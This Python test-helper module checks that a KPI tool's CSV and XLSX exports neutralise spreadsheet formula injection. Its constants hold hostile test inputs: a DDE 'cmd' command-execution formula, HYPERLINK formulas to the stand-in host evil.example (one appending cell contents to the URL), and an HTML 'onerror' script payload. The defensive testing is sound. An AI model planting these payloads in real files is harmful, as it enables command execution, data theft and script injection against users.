"""Hostile text for the tests of files that go out, and the checks that a CSV or
XLSX written by kpitree holds it only as inert text.

The checks are written independently of :mod:`kpitree.escaping`: a spreadsheet
reads a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula unless it is a plain number.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

# Opportunity owners (rep ids and names) and a deal type, as an attacker would export them.
FORMULA_REP = "=cmd|' /C calc'!A0"
AT_REP = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS_REP = '+HYPERLINK("http://evil.example/","click")'
# (A leading tab or line break is trimmed by the import; the writers' own tests cover them.)
HOSTILE_REPS = (FORMULA_REP, AT_REP, PLUS_REP, "-5%")
FORMULA_LABEL = '=HYPERLINK("http://evil.example/?"&A1,"Revenue")'
TEX_LABEL = r"Leads $\foo$ <b>bold</b>"
HTML_LABEL = "<img src=x onerror=alert(1)> [click](http://evil.example) | x"

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def opportunities_csv(day: str, *, amount: str = "1000") -> str:
    """A Salesforce opportunity export (preset ``salesforce-opportunities``):
    one won deal per hostile owner on ``day`` (``MM/DD/YYYY``)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(
        [
            "Opportunity ID",
            "Opportunity Name",
            "Created Date",
            "Close Date",
            "Amount",
            "Stage",
            "Opportunity Owner",
            "Type",
        ]
    )
    for i, owner in enumerate(HOSTILE_REPS, start=1):
        deal = "=1+1" if i == 1 else f"X-{i}"
        writer.writerow([deal, "@deal", day, day, amount, "Closed Won", owner, "Type"])
    return out.getvalue()


def dangerous(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula."""
    return text.startswith(_TRIGGERS) and not _NUMBER.fullmatch(text)


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def assert_inert_csv(content: bytes) -> list[list[str]]:
    """Every cell of the CSV is inert; returns the rows."""
    rows = csv_cells(content)
    live = [cell for row in rows for cell in row if dangerous(cell)]
    assert not live, f"cells a spreadsheet would run: {live}"
    return rows


def assert_inert_xlsx(content: bytes) -> Any:
    """No cell of any sheet is a formula, and every text a spreadsheet would read
    as one is a text cell with the quote prefix; returns the workbook."""
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(content))
    formulas, unprefixed = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((sheet.title, cell.coordinate, cell.value))
                elif (
                    isinstance(cell.value, str)
                    and dangerous(cell.value)
                    and (cell.data_type != "s" or not cell.quotePrefix)
                ):
                    unprefixed.append((sheet.title, cell.coordinate, cell.value))
    assert not formulas, f"formula cells: {formulas}"
    assert not unprefixed, f"formula-like text without the quote prefix: {unprefixed}"
    return book


def xlsx_values(book: Any) -> list[Any]:
    return [c.value for s in book.worksheets for r in s.iter_rows() for c in r]


def hostile_demo(demo_project: Path, folder: Path) -> Path:
    """A copy of the demo in ``folder`` with the node ``won_deals`` labelled as a
    formula and one deal won today by each of :data:`HOSTILE_REPS`, imported by a
    real ``kpitree import`` of ``@opportunities.csv``."""
    from zoneinfo import ZoneInfo

    import yaml

    shutil.copytree(demo_project, folder)
    definition = folder / "kpitree.yaml"
    doc = yaml.safe_load(definition.read_text(encoding="utf-8"))
    doc["nodes"]["won_deals"]["label"] = {"ja": FORMULA_LABEL, "en": FORMULA_LABEL}
    definition.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), "utf-8")
    day = dt.datetime.now(ZoneInfo("Asia/Tokyo")).date().strftime("%m/%d/%Y")
    source = folder / "@opportunities.csv"
    source.write_text(opportunities_csv(day), encoding="utf-8")
    command = ["import", str(source), "--mapping", "salesforce-opportunities", "-p", str(folder)]
    result = subprocess.run(
        [sys.executable, "-m", "kpitree", *command],
        capture_output=True,
        text=True,
        env={**os.environ, "KPITREE_LANG": "en"},
        timeout=300,
    )
    assert result.returncode == 0, result.stderr
    return folder
